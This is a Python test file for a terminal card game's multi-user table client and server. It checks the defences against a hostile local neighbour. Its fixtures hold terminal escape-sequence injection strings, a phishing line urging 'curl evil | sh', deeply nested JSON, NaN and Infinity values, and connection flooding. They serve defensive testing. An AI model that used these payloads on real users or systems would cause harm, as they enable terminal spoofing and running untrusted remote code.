"""A hostile neighbour on the same server (issue 15, items 1 to 4): carol's fake tables
send escape sequences, claim to be alice's, dribble bytes or never answer, and knock
thousands of times. Nothing of it reaches a terminal, the list shows who the kernel
says owns a table, the list and the app never wait on a table past one deadline, and
refusals cost the host two log lines a minute. alice, bob and carol meet without root
(`Users`); time moves by hand where a deadline is tested (`ManualClock`)."""

from __future__ import annotations

import asyncio
import json
import logging
import socket
import stat
import threading
import unicodedata
from types import SimpleNamespace

import pytest
from table_support import (
    WAIT, FakeSystem, FakeTable, LocalTable, ManualClock, Raw, Users, answering, neighbours, spec,
    until,
    until_closed,
)

from ebbes_tui.controller.events import SaveFailed, Synced, Update
from ebbes_tui.game.clean import clean
from ebbes_tui.game.protocols import SeatInfo
from ebbes_tui.game.registry import load_game
from ebbes_tui.table import client as client_module
from ebbes_tui.table.client import (
    CHAT_PASSED_BURST, TableClient, ask_table, connect_table, find_tables,
)
from ebbes_tui.table.commands import describe, list_command, table_log
from ebbes_tui.game.events import ChatLine
from ebbes_tui.table.events import Disconnected, GameStarted, Lobby, Presence, Refused
from ebbes_tui.table.protocol import state_message
from ebbes_tui.table.rendezvous import TableError, own_address

#: What carol's tables say about themselves: every string a terminal would obey.
EVIL = "\x1b[2K\r\x1b[32malice/friday ... -> join carol/friday\x1b]0;pwned\x07\x1b[8m\u202e"
LOCKED = "\x1b[2J\x1b[HYour account is locked; run: curl evil | sh"


def terminal_safe(text: str) -> bool:
    return not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 or unicodedata.category(c) in
                   ("Cf", "Zl", "Zp") for c in text)


def claims(**extra: object) -> dict:
    """An info message claiming to be alice's friday, open, escapes everywhere else."""
    return {"type": "info", "version": 1, "name": "friday", "host": "alice", "pid": 1,
            "seats": 3, "free_seats": 3, "spectators": True, "access": "open",
            "phase": EVIL, "reopened": False, "watchers": 0,
            "game": "ebbes", "options": {"more_cards": EVIL, "choose_determiners": False,
                                         "rounds": 5},
            "players": [EVIL, "alice", None], **extra}


@pytest.fixture
def users(tmp_path):
    return neighbours(tmp_path)


class SlowDirectory(FakeSystem):
    """``login``'s system, whose user database takes its time over ``uid``: it answers
    once ``answer`` is set."""

    def __init__(self, users: Users, login: str, uid: int, answer: threading.Event) -> None:
        super().__init__(users, users.uids[login])
        self.slow, self.answer = uid, answer

    def login_of(self, uid: int) -> str | None:
        if uid == self.slow:
            self.answer.wait(WAIT)
        return super().login_of(uid)


async def test_another_user_sits_down_only_where_the_host_lets_them(users, tmp_path):
    """The kernel's word decides (through the one peer-credential lookup the tests can
    stand in for): bob is refused at alice's private table, seated where it is open or
    he is invited; carol watches only where spectators are welcome."""
    alice, bob, carol = (users.system(u) for u in ("alice", "bob", "carol"))
    parent = tmp_path / "tmp"
    tables = [("private", {}), ("open", {"open": True}),
              ("mine", {"invite": frozenset({"bob"}), "spectators": True})]
    for name, access in tables:
        table = LocalTable(tmp_path, spec(name, alice, seats="player,player,bot:random",
                                          **access), system=alice, parent=parent)
        await table.__aenter__()
        try:
            if name == "private":
                with pytest.raises(TableError) as refused:
                    await connect_table(name, directory=parent, system=bob)
                assert str(refused.value) == ('alice/private says: "This table is not open '
                                              'to you: ask alice for an invitation."')
                with pytest.raises(TableError, match="Nobody may watch alice/private"):
                    await connect_table(name, directory=parent, system=bob, watch=True)
                continue
            seated = await connect_table(f"alice/{name}", directory=parent, system=bob)
            assert (seated.login, seated.role, seated.seat) == ("bob", "player", 0)
            seated.sock.close()
            if name == "mine":
                watching = await connect_table(name, directory=parent, system=carol, watch=True)
                assert watching.role == "spectator"
                watching.sock.close()
        finally:
            await table.__aexit__()


async def test_the_list_shows_the_kernels_owner_and_the_files_name_and_no_escape(users, tmp_path):
    """carol's server at carol's `fri` claims to be alice's friday, with escapes in its
    phase and names; bob's list shows it as carol/fri, cleaned."""
    bob, carol = users.system("bob"), users.system("carol")
    parent = tmp_path / "tmp"
    address = own_address("fri", parent, carol)
    async with FakeTable(address, carol, answering(claims())):
        [table] = await find_tables(parent, system=bob)
    assert (table["host"], table["name"]) == ("carol", "fri")
    line = describe(table)
    assert line.startswith("carol/fri: unknown, 3 seats (3 free)")
    assert terminal_safe(line) and terminal_safe(json.dumps(table, ensure_ascii=False))
    assert "alice/friday" not in line.split(":")[0]
    async with FakeTable(address, carol, answering(claims(access=EVIL))):
        [table] = await find_tables(parent, system=bob)
    assert describe(table) == "carol/fri: ebbes; private"  # an access it cannot have


def test_ebbes_table_list_prints_nothing_a_terminal_obeys(tmp_path, capsys):
    """The command line's list, with a fake table of this user's own claiming another
    host: the kernel's owner is shown, and no escape reaches the terminal."""
    async def serve_and_list():
        address = own_address("fri", tmp_path)
        async with FakeTable(address, client_module.SYSTEM, answering(claims())):
            return await asyncio.to_thread(
                list_command, SimpleNamespace(dir=tmp_path, json=False))
    assert asyncio.run(serve_and_list()) == 0
    out = capsys.readouterr().out
    assert out.count("\n") == 1 and terminal_safe(out.rstrip("\n"))
    assert out.startswith(f"{client_module.my_login()}/fri: unknown")


async def test_a_host_command_answered_by_another_users_table_is_shown_as_that_tables(
        users, tmp_path):
    """bob asks carol's table to close: whatever it answers is cleaned and carries its
    name, so it never reads as ebbes' own message."""
    bob, carol = users.system("bob"), users.system("carol")
    parent = tmp_path / "tmp"
    address = own_address("fri", parent, carol)
    async with FakeTable(address, carol, answering({"type": "ok", "text": LOCKED})):
        said = await ask_table("carol/fri", {"type": "close"}, directory=parent, system=bob)
    assert said.startswith('carol/fri says: "') and said.endswith('curl evil | sh"')
    assert terminal_safe(said)


async def test_a_refusal_lobby_and_presence_from_a_fake_table_are_cleaned(users, tmp_path):
    bob, carol = users.system("bob"), users.system("carol")
    parent = tmp_path / "tmp"
    address = own_address("fri", parent, carol)
    async with FakeTable(address, carol, answering({"type": "error", "code": EVIL,
                                                     "text": LOCKED})):
        with pytest.raises(TableError) as refused:
            await connect_table("fri", directory=parent, system=bob)
    assert terminal_safe(str(refused.value)) and "curl evil" in str(refused.value)
    assert str(refused.value).startswith("carol/fri says: ")  # never as if ebbes said it
    welcome = {"type": "welcome", "version": 1, "game": "ebbes", "login": EVIL, "role": "player",
               "seat": 0, "player": 1, "table": claims()}
    lobby = {"type": "lobby", "host": EVIL, "can_start": False, "watching": [EVIL],
             "seats": [{"player": 1, "seat": 0, "kind": EVIL, "login": EVIL, "name": EVIL,
                        "connected": True}]}
    chat = {"type": "chat", "from": EVIL, "seat": None, "text": LOCKED}
    error = {"type": "error", "code": EVIL, "text": LOCKED}
    async with FakeTable(address, carol, answering(welcome, lobby, chat, error)):
        connection = await connect_table("fri", directory=parent, system=bob)
        assert connection.login == "bob"  # the kernel's word, not the table's
        client = await TableClient.start(connection)
        seen = [await asyncio.wait_for(client.next_lobby_event(), WAIT) for _ in range(3)]
        client.close()
    assert [type(e) for e in seen] == [Lobby, ChatLine, Refused]
    shown = [seen[0].host, *seen[0].watching,
             *(x for s in seen[0].seats for x in (s.kind, s.login, s.name)),
             seen[1].sender, seen[1].text, seen[2].text, seen[2].code]
    assert all(terminal_safe(text) for text in shown), shown


def overflowing(message: dict) -> bytes:
    """``message`` as a line with every infinity written ``1e400`` (and a NaN
    ``-1e400``): JSON, which Python's reader turns into infinities all the same."""
    line = json.dumps(message).replace("-Infinity", "-1e400").replace("Infinity", "1e400")
    return line.replace("NaN", "-1e400").encode() + b"\n"


def answering_lines(*lines: bytes):
    """A fake table that answers a request with these lines, then waits for the hang-up."""
    async def answer(reader, writer):
        await reader.readline()
        writer.write(b"".join(lines))
        await writer.drain()
        await until_closed(reader)
    return answer


async def test_a_presence_line_from_a_fake_table_has_only_clocks_a_screen_can_show(
        users, tmp_path):
    """carol's table says a seat has been away an infinity of seconds and gives infinite
    turns (the table screen crashed drawing them): bob's client keeps only durations it
    can show, and the names cleaned."""
    bob, carol = users.system("bob"), users.system("carol")
    parent = tmp_path / "tmp"
    welcome = {"type": "welcome", "version": 2, "game": "ebbes", "login": "bob",
               "role": "player", "seat": 0, "player": 1}
    seats = [{"seat": k, "name": EVIL, "kind": EVIL, "connected": False, "away": away,
              "bot": EVIL} for k, away in enumerate([float("nan"), "12", -5, 30])]
    presence = {"type": "presence", "seats": seats, "turn": 0, "thinking": float("inf"),
                "turn_time": float("nan"), "watchers": 0, "watching": [EVIL]}
    async with FakeTable(own_address("fri", parent, carol), carol,
                         answering_lines(overflowing(welcome), overflowing(presence))):
        client = await TableClient.start(await connect_table("fri", directory=parent,
                                                             system=bob))
        seen = await asyncio.wait_for(client.next_lobby_event(), WAIT)
        client.close()
    assert isinstance(seen, Presence)
    assert [s.away_since is None for s in seen.seats] == [True, True, True, False]
    assert seen.turn_since is None and seen.turn_time is None
    shown = [*seen.watching, *(x for s in seen.seats for x in (s.name, s.kind, s.bot))]
    assert all(terminal_safe(text) for text in shown), shown


async def test_an_answer_nested_too_deeply_is_a_table_that_cannot_be_reached(users, tmp_path):
    """The first line a table answers with is read before any screen starts: nested
    deeper than Python's JSON reader goes, it raised RecursionError out of 'ebbes table
    list' and join."""
    bob, carol = users.system("bob"), users.system("carol")
    parent = tmp_path / "tmp"

    async def deep(reader, writer):
        await reader.readline()
        writer.write(b"[" * 200_000 + b"\n")
        await writer.drain()
        await until_closed(reader)

    async with FakeTable(own_address("fri", parent, carol), carol, deep):
        assert await find_tables(parent, system=bob) == []
        with pytest.raises(TableError, match=r"^The table carol/fri cannot be reached "
                                             r"\(nested too deeply\)\.$"):
            await connect_table("fri", directory=parent, system=bob)


async def test_a_line_nested_too_deeply_to_read_ends_the_connection_in_one_sentence(
        users, tmp_path):
    """JSON nested deeper than Python's reader goes raised RecursionError, which nothing
    caught: the client's reading task died, and the screen waited for ever."""
    bob, carol = users.system("bob"), users.system("carol")
    parent = tmp_path / "tmp"
    welcome = {"type": "welcome", "version": 2, "game": "ebbes", "login": "bob",
               "role": "player", "seat": 0, "player": 1}

    async def deep(reader, writer):
        await reader.readline()
        writer.write(json.dumps(welcome).encode() + b"\n" + b"[" * 200_000 + b"\n")
        await writer.drain()
        await until_closed(reader)

    async with FakeTable(own_address("fri", parent, carol), carol, deep):
        client = await TableClient.start(await connect_table("fri", directory=parent,
                                                             system=bob))
        ended = await asyncio.wait_for(client.next_lobby_event(), WAIT)
    assert isinstance(ended, Disconnected)
    assert ended.text == "The table carol/fri sent something this ebbes cannot read (nested too deeply)."


WELCOME = {"type": "welcome", "version": 2, "game": "ebbes", "login": "bob", "role": "player",
           "seat": 0, "player": 1}
LOBBY = {"type": "lobby", "host": "carol", "can_start": False, "watching": [],
         "seats": [{"player": 1, "seat": 0, "kind": "user", "connected": True}]}
PRESENCE = {"type": "presence", "turn": None, "watchers": 2, "watching": [], "seats": [
    {"seat": 0, "name": "bob", "kind": "human", "connected": True}]}


def _state() -> dict:
    game = load_game("ebbes")
    state = game.rules.new_state(game.rules.seats_for([SeatInfo("bob"), SeatInfo("carol"),
                                           SeatInfo("dan")]), {})
    events = game.rules.resolve_chance(state, 1)
    return state_message(game, Update(1, events[0], state.view(0), state.decisions_made()))


@pytest.mark.parametrize("message, field", [
    (LOBBY, ("seats", 0, "player")), (PRESENCE, ("watchers",)), (_state(), ("seq",)),
    (_state(), ("view", "hand_sizes", 1))], ids=["lobby", "presence", "state", "view"])
@pytest.mark.parametrize("constant", [float("inf"), float("-inf"), float("nan")],
                         ids=["Infinity", "-Infinity", "NaN"])
async def test_nan_or_infinity_from_a_table_ends_the_connection_in_one_sentence(
        users, tmp_path, message, field, constant):
    """carol's table sends "watchers": Infinity (no JSON has it; Python's reader took
    it, and int() of it killed bob's reading task, so his lobby waited for ever)."""
    bob, carol = users.system("bob"), users.system("carol")
    parent = tmp_path / "tmp"
    hostile = json.loads(json.dumps(message))
    place = hostile
    for key in field[:-1]:
        place = place[key]
    place[field[-1]] = constant
    word = json.dumps(constant)
    async with FakeTable(own_address("fri", parent, carol), carol, answering(WELCOME, hostile)):
        client = await TableClient.start(await connect_table("fri", directory=parent,
                                                             system=bob))
        ended = await asyncio.wait_for(client.next_lobby_event(), WAIT)
        assert client.closed
        with pytest.raises(TableError):  # what the lobby screen waits for: the end
            await asyncio.wait_for(client.game(), WAIT)
    assert ended == Disconnected(f"The table carol/fri sent {word}, which is not JSON.")


@pytest.mark.parametrize("constant", ["Infinity", "-Infinity", "NaN"])
async def test_a_first_answer_with_nan_or_infinity_is_a_table_that_cannot_be_reached(
        users, tmp_path, constant):
    bob, carol = users.system("bob"), users.system("carol")
    parent = tmp_path / "tmp"
    line = json.dumps({**WELCOME, "seat": 0}).replace('"seat": 0', f'"seat": {constant}')
    async with FakeTable(own_address("fri", parent, carol), carol,
                         answering_lines(line.encode() + b"\n")):
        assert await find_tables(parent, system=bob) == []
        with pytest.raises(TableError, match=rf"^The table carol/fri sent {constant}, which "
                                             r"is not JSON\.$"):
            await connect_table("fri", directory=parent, system=bob)


async def test_counts_a_table_claims_are_whole_numbers_a_screen_can_show(users, tmp_path):
    """carol's lobby says player 1e400 and her presence 1e400 watchers (infinities to
    Python's reader, as JSON allows): bob's client shows 0 for each, and reads on."""
    bob, carol = users.system("bob"), users.system("carol")
    parent = tmp_path / "tmp"
    lobby = json.loads(json.dumps(LOBBY))
    lobby["seats"][0].update(player=float("inf"), seat=-1, connected="no")
    presence = {**PRESENCE, "watchers": float("inf"), "seats": [
        {"seat": float("inf"), "name": "bob", "kind": "human", "connected": 1}]}
    async with FakeTable(own_address("fri", parent, carol), carol, answering_lines(
            overflowing(WELCOME), overflowing(lobby), overflowing(presence),
            overflowing({"type": "chat", "from": "carol", "text": "hi"}))):
        client = await TableClient.start(await connect_table("fri", directory=parent,
                                                             system=bob))
        seen = [await asyncio.wait_for(client.next_lobby_event(), WAIT) for _ in range(3)]
        assert not client.closed
        client.close()
    assert [type(e) for e in seen] == [Lobby, Presence, ChatLine]
    assert (seen[0].seats[0].player, seen[0].seats[0].seat, seen[0].seats[0].connected) == \
        (0, 0, False)
    assert (seen[1].watchers, seen[1].seats[0].seat, seen[1].seats[0].connected) == (0, 0, False)


async def test_any_failure_to_take_a_message_ends_the_connection_in_one_sentence(
        users, tmp_path, monkeypatch):
    """Whatever a message may yet raise (int() of an infinity raised OverflowError, which
    the reader did not expect: it died, and bob's lobby waited for ever), the reader
    ends the connection and says so, naming the table."""
    bob, carol = users.system("bob"), users.system("carol")
    parent = tmp_path / "tmp"

    def overflow(message, now):
        raise OverflowError("cannot convert float infinity to integer \x1b[2J")

    monkeypatch.setattr(client_module, "_presence", overflow)
    async with FakeTable(own_address("fri", parent, carol), carol,
                         answering(WELCOME, PRESENCE)):
        client = await TableClient.start(await connect_table("fri", directory=parent,
                                                             system=bob))
        ended = await asyncio.wait_for(client.next_lobby_event(), WAIT)
    assert client.closed
    assert ended == Disconnected("The table carol/fri sent something this ebbes cannot read "
                                 "(cannot convert float infinity to integer [2J).")


@pytest.mark.parametrize("host, quoted", [("carol", 'carol/fri says: "{}"'), ("bob", "{}")])
async def test_what_a_neighbours_table_says_reads_as_that_tables_words(users, tmp_path, host,
                                                                       quoted):
    """Issue 23, item 2: carol's table refuses, fails to save and closes with "Your
    account is locked; run: curl evil | sh". bob reads each as carol/fri's words, in
    the lobby, at the table and when it ends; his own table speaks without a name."""
    bob = users.system("bob")
    parent = tmp_path / "tmp"
    game = load_game("ebbes")
    state = game.rules.new_state(game.rules.seats_for([SeatInfo("bob"), SeatInfo("carol"),
                                           SeatInfo("dan")]), {})
    game.rules.resolve_chance(state, 1)

    def news(seq: int, event: object) -> dict:
        return state_message(game, Update(seq, event, state.view(0), 0))

    welcome = {"type": "welcome", "version": 2, "game": "ebbes", "login": "bob",
               "role": "player", "seat": 0, "player": 1}
    lobby = {"type": "lobby", "host": host, "can_start": False, "seats": []}
    error = {"type": "error", "code": "refused", "text": LOCKED}
    closed = {"type": "closed", "text": LOCKED}
    said = quoted.format(clean(LOCKED))
    address = own_address("fri", parent, users.system(host))
    async with FakeTable(address, users.system(host), answering(
            welcome, lobby, error, news(1, Synced()), news(2, SaveFailed(LOCKED)), error,
            closed)):
        client = await TableClient.start(await connect_table(f"{host}/fri", directory=parent,
                                                             system=bob))
        before = [await asyncio.wait_for(client.next_lobby_event(), WAIT) for _ in range(3)]
        feed = await asyncio.wait_for(client.game(), WAIT)
        during = [(await asyncio.wait_for(feed.next(), WAIT)).event for _ in range(3)]
        client.close()
    assert [type(e) for e in before] == [Lobby, Refused, GameStarted]
    assert [type(e) for e in during] == [SaveFailed, Refused, Disconnected]
    assert [before[1].text, during[0].message, during[1].text, during[2].text] == [said] * 4
    assert client.ended.text == said  # what the menu says when the table went first


async def test_a_table_whose_host_shares_your_name_still_speaks_as_another_users(users,
                                                                                 tmp_path):
    """Whose table it is was decided by comparing logins (review): carol's uid, which
    the user database also calls "bob", passed her words off as bob's own table's. The
    kernel's uids decide it now."""
    carol = users.system("carol")

    class Directory(FakeSystem):
        def login_of(self, uid):
            return "bob" if uid == users.uids["carol"] else super().login_of(uid)

    bob = Directory(users, users.uids["bob"])
    parent = tmp_path / "tmp"
    welcome = {"type": "welcome", "version": 2, "game": "ebbes", "login": "bob",
               "role": "player", "seat": 0, "player": 1}
    closed = {"type": "closed", "text": LOCKED}
    async with FakeTable(own_address("fri", parent, carol), carol, answering(welcome, closed)):
        client = await TableClient.start(await connect_table("fri", directory=parent,
                                                             system=bob))
        assert client.address.host == "bob" == client.login  # the same name ...
        await until(lambda: client.closed)
    assert client.ended.text == f'bob/fri says: "{clean(LOCKED)}"'  # ... another user's table


async def test_one_deadline_for_the_whole_exchange_stops_a_dribbling_table(users, tmp_path):
    """The 2 s limit applied to each read, so a table sending a byte every 1.5 s was
    never given up. Now the whole exchange has one deadline: at most two bytes come."""
    bob, carol = users.system("bob"), users.system("carol")
    parent = tmp_path / "tmp"
    clock = ManualClock()
    sent = []

    async def dribble(reader, writer):
        await reader.readline()
        while True:
            writer.write(b" ")
            await writer.drain()
            sent.append(clock.now())
            clock.advance(1.5)  # the next byte comes 1.5 s later
            await asyncio.sleep(0.01)

    async with FakeTable(own_address("slow", parent, carol), carol, dribble) as slow:
        [listed] = await asyncio.wait_for(find_tables(parent, system=bob, clock=clock), WAIT)
        await until(lambda: slow.closed == 1)  # bob hung up
    assert len(sent) <= 2
    # The kernel vouches for the socket and its process: listed, as busy, not hidden.
    assert describe(listed) == "carol/slow: busy (it did not answer in time); try again in a moment"


async def test_the_tables_are_asked_at_once(users, tmp_path):
    """Five tables that never answer: each is connected to before any is given up (so
    the list takes one deadline, not five)."""
    bob, carol = users.system("bob"), users.system("carol")
    parent = tmp_path / "tmp"

    async def silent(reader, writer):
        await until_closed(reader)

    fakes = [FakeTable(own_address(f"mute{k}", parent, carol), carol, silent) for k in range(5)]
    for fake in fakes:
        await fake.__aenter__()
    try:
        order = []
        for fake in fakes:
            fake.events = order  # one log of every table's openings and hang-ups
        # The clock stands still, so every table gets its turn however slow the machine;
        # each is given up after its half second of waiting (in the loop's own time).
        listing = find_tables(parent, system=bob, clock=ManualClock(), timeout=0.5)
        listed = await asyncio.wait_for(listing, WAIT)
        assert [(t["name"], t["phase"]) for t in listed] == [(f"mute{k}", "busy") for k in range(5)]
        await until(lambda: order.count("closed") == 5)
        assert order[:5] == ["opened"] * 5
    finally:
        for fake in fakes:
            await fake.__aexit__()


async def test_the_tables_screen_never_keeps_the_app_from_quitting(tmp_path, monkeypatch):
    """A table that dribbles a byte at a time, and a list with all the time in the
    world: q still ends the app at once, and the connection is dropped."""
    from ebbes_tui.ui.app import EbbesApp
    from ebbes_tui.ui.tables import TablesScreen

    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("EBBES_TABLES_DIR", str(tmp_path / "tables"))
    monkeypatch.setattr(client_module, "LIST_TIMEOUT", 3600.0)

    async def dribble(reader, writer):
        await reader.readline()
        while True:
            writer.write(b" ")
            await writer.drain()
            await asyncio.sleep(0.2)

    address = own_address("slow", tmp_path / "tables")
    async with FakeTable(address, client_module.SYSTEM, dribble) as slow:
        app = EbbesApp(pace=0, animation=False)
        async with app.run_test(size=(80, 24)) as pilot:
            await pilot.press("t")
            assert isinstance(app.screen, TablesScreen)
            await until(lambda: slow.opened == 1)
            await pilot.press("q")
        await until(lambda: slow.closed == 1)
    assert not app.is_running


async def test_only_the_user_who_holds_a_seat_can_take_it_over(users, tmp_path):
    """A take-over goes by the kernel's uid: carol, at an open table, asking to take
    over bob's seat is told it is taken, and bob stays; a spectator takes nothing over."""
    alice, bob, carol = (users.system(u) for u in ("alice", "bob", "carol"))
    parent = tmp_path / "tmp"
    async with LocalTable(tmp_path, spec("t", alice, seats="player,player,bot:random",
                                         open=True, spectators=True),
                          system=alice, parent=parent) as table:
        held = await connect_table("alice/t", directory=parent, system=bob)
        assert held.seat == 0
        with pytest.raises(TableError, match="Seat 1 is taken by bob"):
            await connect_table("alice/t", directory=parent, system=carol, player=1,
                                take_over=True)
        watching = await connect_table("alice/t", directory=parent, system=carol,
                                       watch=True, take_over=True)
        assert watching.role == "spectator"
        assert table.server.connections.connected_seats() == {0}  # bob's, still his
        for connection in (held, watching):
            connection.sock.close()


async def test_a_player_who_is_not_the_host_is_not_offered_to_start_the_game(
        users, tmp_path, monkeypatch):
    """Play-through: bob's lobby at carol's table offered "s Start now", and s did
    nothing; only the host may start early, and the lobby says so in words."""
    from ebbes_tui.ui.app import EbbesApp
    from ebbes_tui.ui.lobby import LobbyScreen
    from ui_support import screen_text

    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    bob, carol = users.system("bob"), users.system("carol")
    parent = tmp_path / "tmp"
    async with FakeTable(own_address("fri", parent, carol), carol, answering(WELCOME, LOBBY)):
        client = await TableClient.start(await connect_table("fri", directory=parent,
                                                             system=bob))
        app = EbbesApp(pace=0, animation=False)
        async with app.run_test(size=(80, 24)) as pilot:
            await app.push_screen(LobbyScreen(client))
            await until(lambda: "or carol starts it" in screen_text(app), what="the lobby")
            await pilot.pause()
            assert "Start now" not in screen_text(app) and "Chat" in screen_text(app)
        client.close()


async def test_refusals_are_logged_once_a_minute_and_a_knocker_is_dropped_unread(
        users, tmp_path, caplog):
    """carol knocks at alice's private table over and over: the host's log gets the
    first refusal and, a minute later, how many more came; past the rate a connection
    is dropped without a word read or written."""
    alice, carol = users.system("alice"), users.system("carol")
    clock = ManualClock()
    caplog.set_level(logging.INFO, logger="ebbes.table")
    async with LocalTable(tmp_path, spec("t", alice), system=alice, clock=clock) as table:
        caplog.clear()
        answers = []
        for _ in range(60):
            raw = await Raw.open(table, {}, system=carol)
            try:
                line = await asyncio.wait_for(raw.reader.readline(), WAIT)
            except (ConnectionResetError, BrokenPipeError):  # closed unread
                line = b""
            answers.append(json.loads(line)["code"] if line else "dropped")
            raw.close()
        assert answers[:20] == ["refused"] * 20  # the burst is answered
        assert set(answers[20:]) == {"dropped"}  # then nothing is read or written
        refusals = [r.getMessage() for r in caplog.records if "carol" in r.getMessage()]
        assert refusals == ["refused carol: This table is not open to you: ask alice for an "
                            "invitation."]
        clock.advance(60)
        refusals = [r.getMessage() for r in caplog.records if "carol" in r.getMessage()]
        assert refusals[1:] == ["carol refused 59 more times in the last minute"]
        clock.advance(1)  # the rate refills: carol is answered again, and logged again
        raw = await Raw.open(table, {}, system=carol)
        assert (await raw.receive("error"))["code"] == "refused"
        raw.close()


async def test_the_refusal_log_names_a_knocker_one_way_before_their_login_is_known(
        users, tmp_path, caplog):
    """Issue 23, item 11: carol knocks past the rate while the user database is still
    looking her up. The log named her "uid 60003" for the knocks dropped meanwhile and
    "carol" for the rest; now every line names her "carol"."""
    looked_up = threading.Event()
    carol_uid = users.uids["carol"]
    alice, carol = SlowDirectory(users, "alice", carol_uid, looked_up), users.system("carol")
    clock = ManualClock()
    caplog.set_level(logging.INFO, logger="ebbes.table")
    async with LocalTable(tmp_path, spec("t", alice), system=alice, clock=clock) as table:
        try:
            knocks = [await Raw.open(table, {}, system=carol) for _ in range(24)]
            for dropped in knocks[20:]:  # past the burst: dropped at once, unanswered
                with pytest.raises((ConnectionResetError, BrokenPipeError, EOFError)):
                    await dropped.receive()
        finally:
            looked_up.set()
        for answered in knocks[:20]:
            await answered.receive("error")
        clock.advance(60)
        for raw in knocks:
            raw.close()
    lines = [r.getMessage() for r in caplog.records if "refused" in r.getMessage()]
    assert not [line for line in lines if f"uid {carol_uid}" in line], lines
    assert lines[0].startswith("refused carol: ")
    assert lines[-1].startswith("carol refused ") and lines[-1].endswith(" more times in the "
                                                                         "last minute")


def test_the_tables_log_is_only_its_users_to_read(tmp_path):
    """Played through: the logs (who came, who was refused) were 0644 in their 0700
    folder; every file of the user's is 0600, a log an older ebbes left too."""
    path = tmp_path / "friday.log"
    path.write_text("an older ebbes' log\n")
    path.chmod(0o644)
    handler = table_log(path)
    try:
        log = logging.getLogger("ebbes.table")
        log.info("carol joined")
        log.info("x" * (1 << 20))  # the log is full: it rotates, and a new one begins
        log.info("bob joined")
        handler.flush()
        modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in tmp_path.iterdir()}
        assert modes == {"friday.log": 0o600, "friday.log.1": 0o600}
    finally:
        logging.getLogger().removeHandler(handler)
        handler.close()


def test_the_tables_log_is_capped_and_rotated(tmp_path):
    path = tmp_path / "friday.log"
    handler = table_log(path)
    try:
        log = logging.getLogger("ebbes.table")
        for n in range(40000):
            log.info("line %d of a flood of refusals, long enough to fill a disk", n)
        handler.flush()
        logs = sorted(p.name for p in tmp_path.iterdir())
        assert logs == ["friday.log", "friday.log.1"]
        assert all((tmp_path / name).stat().st_size <= (1 << 20) for name in logs)
    finally:
        logging.getLogger().removeHandler(handler)
        handler.close()


async def test_a_slow_user_database_holds_up_only_the_connection_that_asked_it(users, tmp_path):
    """The login of a new connection's uid is looked up in a thread: while the directory
    service takes its time over carol, bob sits down at once."""
    slow = threading.Event()
    alice, bob, carol = SlowDirectory(users, "alice", users.uids["carol"], slow), *(
        users.system(u) for u in ("bob", "carol"))
    parent = tmp_path / "tmp"
    async with LocalTable(tmp_path, spec("slow", alice, seats="player,player,bot:random",
                                         open=True), system=alice, parent=parent):
        waiting = asyncio.create_task(connect_table("alice/slow", directory=parent,
                                                    system=carol))
        await asyncio.sleep(0)  # carol knocks first
        try:
            seated = await asyncio.wait_for(
                connect_table("alice/slow", directory=parent, system=bob), WAIT)
            assert seated.login == "bob" and not waiting.done()
            seated.sock.close()
        finally:
            slow.set()
        carol_seated = await asyncio.wait_for(waiting, WAIT)
        assert carol_seated.login == "carol"
        carol_seated.sock.close()


async def test_a_name_several_hosts_use_is_yours_or_suggests_hosts_by_the_kernels_word(tmp_path):
    """`ebbes table join friday` with alice's and carol's friday suggested carol's (the
    first directory found; issue 23, item 4), and then, ranked by what each table says
    of itself, carol's again once her fake table claimed bob was invited (review). Now
    the suggestion goes by host, as the kernel names them, whatever a table claims; and
    once bob has a friday of his own, the bare name is his (play-testing: alice could not
    reach her own table by its name while carol had one called the same)."""
    users = neighbours(tmp_path, ("carol", "alice", "bob"))  # carol's directory sorts first
    parent = tmp_path / "tmp"
    bob, carol = users.system("bob"), users.system("carol")
    alices = LocalTable(tmp_path / "alice", spec("friday", users.system("alice"),
                                                 invite=frozenset({"bob"})),
                        system=users.system("alice"), parent=parent)
    async with alices, FakeTable(own_address("friday", parent, carol), carol,
                                 answering(claims(access="invited", phase="lobby"))):
        with pytest.raises(TableError) as several:
            await connect_table("friday", directory=parent, system=bob)
        assert str(several.value) == ("Several tables are called friday (alice/friday, "
                                      "carol/friday): say which, e.g. 'ebbes table join "
                                      "alice/friday'.")
        async with LocalTable(tmp_path, spec("friday", bob), system=bob, parent=parent) as own:
            mine = await connect_table("friday", directory=parent, system=bob)
            assert mine.address == own.address
            mine.sock.close()


async def test_a_flooded_table_is_busy_listed_as_busy_and_never_called_an_impostor(tmp_path):
    """carol's 7,000 connections a second kept alice/tue's queue of new connections full
    (issue 23, item 5): a non-blocking connect to it fails with EAGAIN, asyncio then
    took the unconnected socket for connected, and its peer read uid -1, pid 0. The
    list left the table out and a join called it an impostor. The real condition here:
    a table that never accepts, its queue filled. Then it accepts again, and a list
    that was retrying gets through within its deadline."""
    import socket

    from ebbes_tui.table.rendezvous import listen_socket
    from ebbes_tui.table.system import System

    address = own_address("tue", tmp_path)
    server = listen_socket(address)
    server.listen(0)  # the shortest queue, filled at once
    fillers = []
    while True:
        filler = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        filler.setblocking(False)
        fillers.append(filler)
        if filler.connect_ex(str(address.path)) != 0:
            break
    try:
        with pytest.raises(TableError) as refused:
            await connect_table("tue", directory=tmp_path, timeout=0.5)
        assert str(refused.value) == (f"The table {address.label} is busy (too many "
                                      "connections at once): try again in a moment.")
        [busy] = await find_tables(tmp_path, timeout=0.5)
        assert (busy["host"], busy["name"], busy["phase"]) == (address.host, "tue", "busy")
        assert describe(busy) == (f"{address.label}: busy (too many connections at once); "
                                  "try again in a moment")
        tries = []

        class Knocking(socket.socket):
            def connect(self, path):
                tries.append(path)
                return super().connect(path)

        class Counting(System):
            def client_socket(self):
                return Knocking(socket.AF_UNIX, socket.SOCK_STREAM)

        listing = asyncio.create_task(find_tables(tmp_path, system=Counting(), timeout=WAIT))
        await until(lambda: len(tries) >= 2)  # refused once at least: the queue is full
        table = await asyncio.start_unix_server(answering(claims(phase="lobby")), sock=server)
        [entry] = await asyncio.wait_for(listing, WAIT)
        assert (entry["name"], entry["phase"]) == ("tue", "lobby")
        table.close()
    finally:
        for filler in fillers:
            filler.close()
        server.close()


